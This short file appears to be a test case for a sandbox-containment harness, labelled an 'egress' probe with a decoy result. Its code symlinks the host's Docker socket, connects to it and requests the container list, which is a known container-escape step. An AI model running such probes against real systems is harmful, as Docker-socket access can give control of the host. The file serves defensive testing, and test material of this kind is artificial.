#: {"class": "egress", "loader": "script", "expect": [["connect", "docker\\.sock|/s$"]], "effect": {"loot": "DECOY-reply"}}
import socket
os.symlink("/run/docker.sock", TMP + "/s"); s = socket.socket(socket.AF_UNIX); s.connect(TMP + "/s"); s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
